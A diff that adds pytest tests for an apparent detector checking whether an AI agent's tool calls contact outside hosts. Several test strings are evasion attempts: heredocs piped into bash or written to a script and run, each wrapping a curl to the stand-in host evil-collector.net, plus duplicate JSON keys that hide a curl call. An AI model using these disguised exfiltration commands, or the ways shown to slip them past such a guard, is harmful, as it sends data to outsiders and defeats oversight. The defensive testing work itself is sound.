@@ -211,3 +211,36 @@ def test_what_cannot_be_read_and_spiteful_arguments() -> None:
         json.dumps({"command": "cat <<E\n" * 20_000}),
     ):
         speaks_to_strangers(text, TABLE)
+
+
+RUN_AT_ONCE = [
+    "*** Begin Patch\ncurl https://{h}/ -d {s}", "cat <<'EOF' | bash\ncurl {h}/{s}\nEOF", "cat <<EOF\n$(curl {h}/{s})\nEOF", "cat <<<EOF\ncurl {h}/{s}\nEOF", "cat f # <<EOF\ncurl {h}/{s}\nEOF", "cat '<<EOF'\ncurl {h}/{s}\nEOF",
+    "cat $((1<<EOF))\ncurl {h}/{s}\nEOF", "cat \\<<EOF\ncurl {h}/{s}\nEOF", "cat <<'EOF' > >(bash)\ncurl {h}/{s}\nEOF", "cat > x.sh <<'EOF' && bash x.sh\ncurl {h}/{s}\nEOF", "tee /dev/stderr <<'EOF' | sh\ncurl {h}/{s}\nEOF",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("command", RUN_AT_ONCE)
+def test_what_looks_like_a_file_and_runs_at_once_is_a_command(command: str) -> None:
+    said = command.replace("{h}", "evil-collector.net").replace("{s}", "word")
+
+    assert speaks_to_strangers(json.dumps({"command": said}), TABLE)
+
+
+@pytest.mark.parametrize("twice", ['{"command": "curl evil-collector.net/x", "command": "ls"}', '{"url": "x", "url": "evil-collector.net/x"}'])
+def test_a_name_that_stands_twice_is_read_twice(twice: str) -> None:
+    assert speaks_to_strangers(twice, TABLE)
+
+
+@pytest.mark.parametrize(
+    "call",
+    [
+        {"path": "package.json", "content": json.dumps({"repository": "https://github.example/x/y", "author": {"email": "a@elsewhere.example"}}, indent=2)},
+        {"file_path": ".mcp.json", "content": json.dumps({"mcpServers": {"a": {"url": "https://a.elsewhere.example/mcp"}}})},
+        {"file_path": "a.json", "old_string": json.dumps({"url": "https://a.elsewhere.example"}), "new_string": json.dumps({"url": "https://b.elsewhere.example"})},
+        {"path": "a.json", "edits": [{"oldText": '{"to": "a@elsewhere.example"}', "newText": '{"phone": "010-2222-1111"}'}]},
+        {"command": "cat > deploy.yml <<'EOF'\nhost: a.elsewhere.example\nEOF"}, {"command": "cat <<EOF > 'a b.sh'\ncurl a.elsewhere.example\nEOF"},
+    ],
+)  # fmt: skip
+def test_what_is_written_into_files_may_name_whom_it_likes(call: dict[str, object]) -> None:
+    assert not speaks_to_strangers(json.dumps(call), TABLE)
+    assert not speaks_to_strangers("*** Begin Patch\n*** Update File: a\n+curl a.elsewhere.example\n*** End Patch", TABLE)
